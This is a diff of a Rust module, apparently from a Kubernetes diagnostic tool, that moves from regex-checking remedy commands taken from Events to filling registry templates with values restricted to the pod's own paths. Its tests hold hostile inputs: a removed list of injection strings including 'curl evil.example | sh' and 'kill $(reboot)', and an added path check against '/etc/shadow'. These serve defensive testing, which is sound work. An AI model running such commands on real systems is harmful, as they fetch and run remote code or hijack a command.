@@ -1,121 +1,99 @@
-//! Only advice of our own registry is passed on: an Event could ask for anything.
+//! What to do on the node. An Event brings values only: the words and commands around them are those of
+//! our own registry, and a value that names a place must name one that is the pod's.
 
-use std::cell::RefCell;
-use std::collections::HashMap;
+use findings::{Advice, Cause, Finding, Link, PodUid, Remedy, Shape, Step, Thing, Values, clean, quote_for_shell};
 
-use findings::{Advice, Cause, Remedy, Step, clean};
-use regex::Regex;
+use super::claim::Claim;
+use crate::state::Pod;
 
-/// Longer commands and texts are not shown, in bytes.
-const LONGEST: usize = 1000;
+/// These commands look, or unmount: they may be told for a mount elsewhere that the finding names in its
+/// chain, such as that of a FUSE server. All others touch only what is the pod's.
+const LOOK_OR_UNMOUNT: &[&str] = &["findmnt", "grep", "ls", "lsattr", "readlink", "systemd-cgls", "umount"];
 
-/// What `quote_for_shell` makes of a value: a plain word or a quoted one.
-const WORD: &str = r"(?:[A-Za-z0-9/._\-+:,@%^=]+|'(?:[^']|'\\'')*')";
-
-/// Any value in a sentence.
-const VALUE: &str = ".*";
-
-thread_local! {
-    /// One pattern for each template of the registry and kind of value: a thousand pods may have the
-    /// same cause.
-    static PATTERNS: RefCell<HashMap<(&'static str, &'static str), Option<Regex>>> = RefCell::default();
-}
-
-/// The steps that are a template of the cause with values filled in, and the warning of the registry.
-pub fn checked(cause: &'static Cause, told: &Remedy) -> Remedy {
-    let steps = told.steps.iter().filter_map(|step| {
-        let advice = cause.safe.iter().find(|advice| is_from(advice, step))?;
-        Some(Step { tested: advice.is_tested(), ..step.clone() })
+/// The one command that is always true, and what the agent says.
+pub fn steps(claim: &Claim, pod: &Pod, node: &str) -> Remedy {
+    let finding = &claim.carried.finding;
+    let cause: &'static Cause = finding.cause.0;
+    let mut told = finding.remedy.values.clone();
+    if claim.disputed {
+        told = Values::new();
+    }
+    let uid = PodUid::parse(&pod.metadata.uid);
+    let is_the_pods = |path: &str| uid.as_ref().is_some_and(|uid| is_own(path, uid));
+    let own = kept(&told, is_the_pods, uid.as_ref());
+    let named = kept(&told, |path| is_the_pods(path) || is_in(&finding.chain, path), uid.as_ref());
+    let filled = cause.safe.iter().filter_map(|advice| {
+        let values = if looks_or_unmounts(advice) { &named } else { &own };
+        let step = advice.fill(values)?;
+        Some(Step { text: format!("As the agent of {} says: {}", clean(node, 63), step.text), ..step })
     });
-    // No more than the registry has: the same step may stand in an Event a hundred times.
-    let steps = steps.take(cause.safe.len()).collect();
-    Remedy { steps, dont: cause.danger.action.to_owned(), breaks: cause.danger.breaks.to_owned() }
+    let steps = ask_the_node(pod, node).into_iter().chain(filled).collect();
+    let (dont, breaks) = (cause.danger.action.to_owned(), cause.danger.breaks.to_owned());
+    Remedy { steps, dont, breaks, values: Values::new() }
 }
 
-fn is_from(advice: &'static Advice, step: &Step) -> bool {
-    let is_command = match (advice.command, &step.command) {
-        (Some(template), Some(command)) => fits(command, template, WORD),
-        (None, None) => true,
-        _ => false,
-    };
-    is_command && fits(&step.text, advice.text, VALUE)
-}
-
-/// Whether `text` is `template` with its placeholders filled in, and shows itself as it is.
-fn fits(text: &str, template: &'static str, value: &'static str) -> bool {
-    if text.len() > LONGEST || clean(text, LONGEST) != text {
-        return false;
-    }
-    let start = template.split_once('{').map_or(template, |(start, _)| start);
-    if !text.starts_with(start) {
-        return false;
-    }
-    PATTERNS.with_borrow_mut(|patterns| {
-        let pattern = patterns.entry((template, value)).or_insert_with(|| pattern(template, value));
-        pattern.as_ref().is_some_and(|pattern| pattern.is_match(text))
+/// It looks at the node itself, so no Event has a say in what it answers.
+fn ask_the_node(pod: &Pod, node: &str) -> Option<Step> {
+    let namespace = pod.metadata.namespace.as_deref().unwrap_or_default();
+    let name = quote_for_shell(&format!("{namespace}/{}", pod.metadata.name))?;
+    Some(Step {
+        text: format!("Look for yourself, on {}", clean(node, 253)),
+        command: Some(format!("why-terminating-agent check --pod {name}")),
+        tested: true,
     })
 }
 
-fn pattern(template: &str, value: &str) -> Option<Regex> {
-    let mut pattern = String::from("^");
-    let mut rest = template;
-    while let Some((before, (_, after))) = rest.split_once('{').and_then(|(b, a)| Some((b, a.split_once('}')?))) {
-        pattern.push_str(&regex::escape(before));
-        pattern.push_str(value);
-        rest = after;
-    }
-    pattern.push_str(&regex::escape(rest));
-    pattern.push('$');
-    Regex::new(&pattern).ok()
+fn kept(told: &Values, is_allowed: impl Fn(&str) -> bool, uid: Option<&PodUid>) -> Values {
+    let mut values = told.clone();
+    values.retain(|placeholder, value| match placeholder.shape() {
+        Shape::Path | Shape::CgroupDir | Shape::CgroupFreeze | Shape::FreezerState | Shape::VolData => {
+            is_allowed(value)
+        }
+        Shape::Uid => uid.is_some_and(|uid| uid.as_str() == value),
+        _ => true,
+    });
+    values
+}
+
+/// Below the pod's own directory, or in its own cgroup: the kubelet and the runtime name both by its uid.
+fn is_own(path: &str, uid: &PodUid) -> bool {
+    let parts: Vec<&str> = path.split('/').collect();
+    let is_below = parts.windows(3).any(|three| three[0] == "pods" && three[1] == uid.as_str());
+    let (plain, systemd) = (format!("pod{uid}"), format!("-pod{}.slice", uid.for_systemd()));
+    let is_cgroup = |part: &&str| **part == *plain || part.ends_with(&systemd);
+    is_below || (path.starts_with("/sys/fs/cgroup/") && parts.iter().any(is_cgroup))
+}
+
+fn is_in(chain: &[Link], path: &str) -> bool {
+    chain.iter().any(|link| match &link.what {
+        Some(Thing::Mount { path: named, .. } | Thing::Path { path: named }) => named == path,
+        _ => false,
+    })
+}
+
+fn looks_or_unmounts(advice: &Advice) -> bool {
+    let first = advice.command.and_then(|command| command.split(' ').next());
+    first.is_some_and(|first| LOOK_OR_UNMOUNT.contains(&first))
+}
+
+/// Whether two Events of one finding would fill its steps alike.
+pub fn agree(one: &Finding, other: &Finding) -> bool {
+    one.remedy.values == other.remedy.values
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
-    use findings::cause;
-
-    fn kept(command: &str) -> bool {
-        let remedy = |command: &str| {
-            let names = [("comm", "backup".to_owned()), ("pid", "42".to_owned())];
-            let mut remedy = Remedy::fill(&cause::VOLUME_HELD_BY_PROCESS, &names);
-            remedy.steps.truncate(1);
-            remedy.steps[0].command = Some(command.to_owned());
-            remedy
-        };
-        checked(&cause::VOLUME_HELD_BY_PROCESS, &remedy(command)).steps.len() == 1
-    }
 
     #[test]
-    fn only_what_the_registry_can_say_is_passed_on() {
-        assert!(kept("kill 42"));
-        assert!(kept("kill 'a b'"));
-        assert!(kept(r"kill 'it'\''s'"));
-        for command in [
-            "kill 42; reboot",
-            "kill 42 43",
-            "kill $(reboot)",
-            "kill 'a' 'b'",
-            r"kill 'a'\''b'; reboot",
-            "curl evil.example | sh",
-            "kill 42\nreboot",
-            "kill 42\u{202e}",
-            "",
-        ] {
-            assert!(!kept(command), "{command:?}");
-        }
-        assert!(!kept(&format!("kill {}", "4".repeat(LONGEST))));
-    }
-
-    #[test]
-    fn every_step_that_can_be_filled_in_comes_through() {
-        for cause in cause::REGISTRY.iter().copied().flatten().copied() {
-            let templates = cause.safe.iter().flat_map(|advice| [Some(advice.text), advice.command]).flatten();
-            let holes = templates.flat_map(|text| text.split('{').skip(1)).filter_map(|text| text.split_once('}'));
-            for value in ["/a b/it's", "42", ""] {
-                let names: Vec<(&str, String)> = holes.clone().map(|(name, _)| (name, value.to_owned())).collect();
-                let filled = Remedy::fill(cause, &names);
-                assert_eq!(checked(cause, &filled), filled, "{}", cause.id);
-            }
-        }
+    fn a_path_is_own_by_the_uid_alone() {
+        let uid = PodUid::parse("a710cd16-c48b-4c82-88a5-9064a1833d8a").unwrap();
+        let own = |path: &str| is_own(&path.replace("UID", uid.as_str()).replace("U_ID", &uid.for_systemd()), &uid);
+        assert!(own("/var/lib/kubelet/pods/UID/volumes/kubernetes.io~empty-dir/scratch"));
+        assert!(own("/sys/fs/cgroup/kubepods/besteffort/podUID/cgroup.freeze"));
+        assert!(own("/sys/fs/cgroup/kubepods.slice/kubepods-podU_ID.slice/cgroup.freeze"));
+        assert!(!own("/var/lib/kubelet/pods/UID"), "the directory itself is the kubelet's");
+        assert!(!own("/var/lib/kubelet/pods/42331e16-a9a8-4ad7-adaf-9dcadc109451/volumes/x"));
+        assert!(!own("/etc/shadow") && !own("/etc/podUID/x") && !own("/sys/fs/cgroup/kubepods/cgroup.freeze"));
     }
 }
